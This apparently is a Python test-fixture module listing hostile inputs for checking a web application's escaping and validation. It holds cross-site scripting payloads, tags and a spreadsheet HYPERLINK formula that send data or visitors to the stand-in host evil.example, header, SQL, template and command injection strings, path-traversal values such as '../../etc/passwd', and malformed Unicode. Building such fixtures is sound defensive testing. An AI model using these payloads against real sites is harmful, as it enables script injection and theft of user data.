"""What hostile people type: markup that tries to get out of its place, and characters that programs stumble over."""

from __future__ import annotations

MARKUP = {
    "script": "<script>alert(1)</script>",
    "upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute, double": '" onmouseover="alert(1)',
    "attribute, single": "' onfocus='alert(1)' autofocus='",
    "attribute, bare": "x onpointerenter=alert(1) ",
    "out of double": '"><b id=got-out>',
    "out of single": "'><i id=got-out>",
    "out of a field": "</textarea><script>alert(1)</script>",
    "out of the title": "</title><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of an option": "</option></select><img src=x onerror=alert(1)>",
    "vector drawing": "<svg/onload=alert(1)>",
    "mathematics": "<math><mi xlink:href='javascript:alert(1)'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><button>Go</button></form>",
    "htmx": "<div hx-get='//evil.example' hx-trigger=load>",
    "link": "<a href=javascript:alert(1)>here</a>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "template": "{{ request.user.password }} {% debug %} {# gone #}",
    "comment": "<!-- --!> <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "half a tag": "<b",
    "unclosed comment": "<!--",
    "unclosed field": "<textarea><title><xmp><plaintext>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
}

ODD = {
    "nul": "a\0b",
    "control": "a\x01\x07\x08\x1b[31m\x7fb",
    "next line": "a\x85b\u2028c\u2029d",
    "carriage returns": "a\r\nSet-Cookie: x=1\r\n\r\nb",
    "right to left": "a\u202eb\u2067c\u200fd",
    "zero width": "a\u200bb\ufeffc\u00add",
    "not characters": "a\ufffe\uffff\U0010ffff",
    "astral": "\U0001f6a2 \U0001d4d0 \U00020000",
    "piled": "Z" + "\u0301" * 200,
    "other digits": "\u0661\u0662\u00b2",
    "quotes": "'\";--\\ %s %00 %(x)d {0} $1 `id`",
    "like": "%_%_[^]*?",
    "one long word": "w" * 4900,
    "a very long word": "w" * 60_000,
    "many words": "of " * 1600,
    "space only": " \t\u00a0\u3000 ",
    "nothing": "",
}

NUMBERS = [
    "-1", "0", "9999999999999999999", "1" * 5000, "9999", "1e400", "NaN", "-inf", "0x10", "1.5", "\u0661", "\u00b2", "abc", "none", "null",
    "true", "[]", "1,2", "1 OR 1=1", "\0", "1\0", " ", "<b>", "../../etc/passwd", "javascript:alert(1)",
]  # fmt: skip

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript://x.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://x.example/a",
    "//evil.example/",
    "http:evil.example",
    "http://",
    "http://[::1",
    "http://\u2100.example/",
    "http://x.example:99999999/",
    "https://x.example\\@evil.example/",
    'http://x.example/"onclick="alert(1)',
    "http://x.example/'><script>alert(1)</script>",
    "http://x.example/\0",
    "http://x.example/" + "a" * 2500,
]


def bundles(longest: int = 190) -> list[str]:
    """Pack the markup into few texts, so that each fits into every field."""
    packed = [""]
    for one in MARKUP.values():
        if len(packed[-1]) + len(one) + 1 > longest:
            packed.append("")
        packed[-1] = f"{packed[-1]} {one}".strip()
    return packed
